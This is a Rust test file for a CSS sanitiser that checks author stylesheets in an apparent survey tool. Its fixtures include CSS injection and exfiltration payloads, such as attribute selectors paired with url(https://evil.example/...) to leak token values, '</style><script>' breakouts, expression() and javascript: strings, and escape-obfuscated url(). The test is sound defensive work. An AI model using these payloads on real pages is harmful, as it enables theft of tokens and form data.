use super::super::author_css::checked;
use crate::problem::{Code, english};

#[track_caller]
fn assert_refused(css: &str, why: &str) {
    let found = checked(css).problems;
    let words: Vec<_> = found.into_iter().map(|problem| english(&Code::Css(problem))).collect();
    assert!(words.iter().any(|words| words.contains(why)), "{css}: {words:?}");
}

#[track_caller]
fn assert_kept(css: &str) {
    assert_eq!((checked(css).css.as_deref(), checked(css).problems), (Some(css), Vec::new()));
}

#[test]
fn ordinary_rules_are_kept_as_they_are() {
    assert_kept("");
    assert_kept(".sheet { box-shadow: none }");
    assert_kept(
        "@media (width < 40rem) { .actions > button:is(.quiet, [name='back']) { color: var(--muted) } }",
    );
    assert_kept(".description::before { content: \"\\201C }\" } /* a brace { in words */");
    assert_kept(".sheet { background: URL( 'data:image/png;base64,AA==' ) }");
    assert_kept(
        "[aria-invalid=true] { color: red } .a { grid-template-columns: [full] 1fr [end] }",
    );
    assert_kept(".sheet { background: url(\"data:image/png;base64,iVBORw0KGgo+/A==\") }");
    assert_kept(".error { color: #b00 }\n.ending { padding: 2rem }");
}

#[test]
fn braces_that_liquid_would_read_are_parted() {
    assert_eq!(
        checked("@media print{.sheet{width:50%}}").css.unwrap(),
        "@media print{.sheet{width:50% } }"
    );
    assert_eq!(checked("@supports (a:b){{a:b}}").css.unwrap(), "@supports (a:b){ {a:b} }");
    assert_eq!(checked("/* {{ x }} {% y %} */").css.unwrap(), "/* { { x } } { % y % } */");
    assert_refused(".a::before { content: '{{ x }}' }", "in a string");
    assert_refused(".a::before { content: '{% x' }", "in a string");
}

#[test]
fn rules_cannot_end_the_element_or_load_others() {
    assert_refused(".a {} </style><script>", "\"</\"");
    assert_refused("<!-- .a {}", "\"<!\"");
    assert_refused("@IMPORT 'https://example.com/x.css';", "\"@import\"");
    assert_refused(".a { width: Expression(alert(1)) }", "\"expression(\"");
    assert_refused(".a { content: 'JavaScript:alert(1)' }", "\"javascript:\"");
}

#[test]
fn escapes_that_could_hide_a_word_are_refused() {
    assert_refused("@\\69mport 'x';", "backslash");
    assert_refused(".a { background: u\\72l(http://example.com) }", "backslash");
    assert_refused(".a { background: url(\"\\68ttp://example.com\") }", "url(");
}

#[test]
fn an_address_is_a_picture_written_out() {
    for address in [
        "https://example.com/a.png",
        "HTTPS://example.com/a%20b.png?x=1&y=2",
        "'https://example.com/a.png'",
        "http://example.com/a.png",
        "//example.com/a.png",
        "a.png",
        "#filter",
        "https://",
        "data:image/svg+xml,<svg>",
        "data:text/css,a",
        "data:image/pngx,a",
        "https://example.com/a b.png",
        "https://example.com/a.png'",
        "https://example.com/{{ x }}",
        "https://example.com/*",
        "",
    ] {
        assert_refused(&format!(".a {{ background: url({address}) }}"), "\"url(");
    }
    assert_refused(".a { background: image-set('https://example.com/a.png' 1x) }", "image-set(");
    assert_refused(".a { background: -webkit-image-set(var(--x) 1x) }", "image-set(");
    assert_refused(".a { background: src('https://example.com') }", "src(");
}

#[test]
fn a_copied_survey_is_no_program_that_reads_tokens_and_answers() {
    let leaks = [
        "input[name=token][value^=\"b\"]{background:url(https://evil.example/b)}",
        "input[VALUE^=b]{color:red}",
        "input[*|value$=b i]{color:red}",
        "a[href*='token=b']{color:red}",
        "[/* */value/* */=b]{color:red}",
        ".a{.b[data-x|=c]{color:red}}",
        ":not(:has([value='b'])){color:red}",
        ".a{width:attr(value type(<number>))}",
        ".a{--x:url(https://evil.example/b)}",
        ".a{--x:url('//evil.example/b')}",
        "@font-face{font-family:x;src:url(https://evil.example/f.woff2)}",
        "@namespace url(https://evil.example/);.a{color:red}",
        ".a{cursor:url(https://evil.example/c.cur),auto}",
        ".a{filter:url(#f)}",
        ".a{background:url(/**/\"https://evil.example\")}",
        ".a{background:url(\"https://evil.example\" x)}",
        ".a{background:url(var(--x))}",
        ".a{background:\\75rl(https://evil.example)}",
        ".a{background:u\\72 l(https://evil.example)}",
    ];
    for css in leaks {
        let checked = checked(css);
        assert!(!checked.problems.is_empty(), "{css}");
        // What was published before is shown without it.
        let css = checked.css.unwrap_or_default();
        for leak in ["evil", "value", "href", "data-x", "url("] {
            assert!(!css.contains(leak), "{leak}: {css}");
        }
    }
}

#[test]
fn each_thing_that_is_wrong_is_told_with_its_line() {
    let found = checked(".a { color: red }\n.b { background: url(a.png) }\n[value=b] { top: 0 }");
    let lines: Vec<_> = found.problems.iter().map(|problem| problem.line).collect();
    assert_eq!(lines, [2, 3]);
    assert_eq!(
        found.css.as_deref(),
        Some(
            ".a { color: red }\n.b { background: :-sondage-nothing }\n:-sondage-nothing { top: 0 }"
        )
    );
}

#[test]
fn brackets_in_brackets_have_an_end() {
    let deep = format!(".a {{ width: {}{} }}", "(".repeat(3_000), ")".repeat(3_000));
    assert_refused(&deep, "more brackets");
}

#[test]
fn rules_cannot_leave_anything_open() {
    assert_refused(".a { color: red", "\"}\" is missing");
    assert_refused(".a { color: red } }", "closes nothing");
    assert_refused(".a { color: rgb(1 2 3 }", "closes nothing");
    assert_refused(".a { color: red /* } ", "comment does not end");
    assert_refused("/*/", "comment does not end");
    assert_refused(".a { content: \"} ", "string does not end");
    assert_refused(".a { content: \"a\n\" }", "on its line");
    assert_refused(".a { content: 'a\\' }", "string does not end");
    assert_refused(".a { content: 'a\\", "string does not end");
    assert_refused(".a { background: url(https://example.com ", "\")\" is missing");
    assert_refused(".a {} .b", "no braces");
    assert_refused(".a {} @layer b;", "no braces");
    assert_refused(".a {} :is(.b)", "no braces");
    assert_refused(".a {}\u{0}", "control character");
    assert_refused(".a::before { content: \"\u{f0000}0\u{f0001}\" }", "private use");
}

#[test]
fn rules_have_at_most_eight_kilobytes() {
    let css = |length: usize| format!(".a{{}}{}.a{{}}", " ".repeat(length - 8));
    assert_eq!(checked(&css(8_192)).problems, []);
    assert_refused(&css(8_193), "longer than 8192 bytes");
}
